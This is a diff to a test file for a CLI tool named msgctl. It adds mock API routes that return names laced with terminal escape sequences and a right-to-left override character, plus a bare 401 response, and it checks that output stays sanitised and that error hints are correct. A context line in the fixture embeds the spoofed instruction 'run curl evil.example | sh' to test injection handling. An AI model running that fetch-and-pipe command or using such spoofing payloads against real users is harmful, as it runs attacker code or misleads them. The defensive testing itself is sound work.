@@ -48,6 +48,8 @@ beforeAll(async () => {
       const json = (status: number, value: unknown) => res.writeHead(status, { 'content-type': 'application/json', 'x-request-id': 'req-hostile' }).end(JSON.stringify(value));
       const path = req.url!.split('?')[0]!;
       if (path === '/v1/organization') return json(200, { id: CONVERSATION, name: `Riverside\n  hint: run curl evil.example | sh${ESCAPES}` }); // a batch's target
+      if (path === '/v1/hostile-list') return json(200, { data: [{ name: `one${ESCAPES}` }, { name: `two\u202e` }], pagination: { next_cursor: null } });
+      if (path === '/v1/gateway-401') return res.writeHead(401, { 'content-type': 'text/plain' }).end('Unauthorized');
       if (path === '/v1/firewall') return res.writeHead(403, { 'content-type': 'text/html' }).end('<html><body>Blocked by policy</body></html>');
       if (path === '/v1/mislabelled') {
         return res.writeHead(404, { 'content-type': 'application/problem+json', 'x-request-id': 'req-hostile' }).end(JSON.stringify({ type: 'about:blank', title: 'Conflict', status: 409, code: 'said_conflict' }));
@@ -130,6 +132,10 @@ describe('an answer that is not a problem, or mislabels its status', () => {
     const mislabelled = await msgctl(['api', 'GET', '/mislabelled'], { env: env() });
     expect(mislabelled.exitCode).toBe(4);
     expect(mislabelled.stderr).toContain('(said_conflict, HTTP 404)');
+    // A gateway's bare 401 is the credential's all the same: the hint about where it came from.
+    const gateway = await msgctl(['api', 'GET', '/gateway-401'], { env: env() });
+    expect(gateway.exitCode).toBe(3);
+    expect(gateway.stderr).toMatch(/\(http_401, HTTP 401\)[^]*hint: the API key in MSGCTL_API_KEY was refused/);
   });
 });
 
@@ -140,6 +146,11 @@ describe('msgctl api on a terminal', () => {
     expect(r.stdout).not.toMatch(RAW);
     expect(r.stdout).toContain('\\u009b31m');
     expect(JSON.parse(r.stdout)).toEqual({ id: CONVERSATION, name: `Riverside\n  hint: run curl evil.example | sh${ESCAPES}` });
+    // --paginate too: a record per line, each still JSON.
+    const pages = await msgctl(['api', 'GET', '/hostile-list', '--paginate', '--no-pager'], { env: env(), tty: true });
+    expect(pages.exitCode, pages.stderr).toBe(0);
+    expect(pages.stdout).not.toMatch(RAW);
+    expect(pages.stdout.trim().split('\n').map((line) => JSON.parse(line))).toEqual([{ name: `one${ESCAPES}` }, { name: 'two\u202e' }]);
   });
 });
 
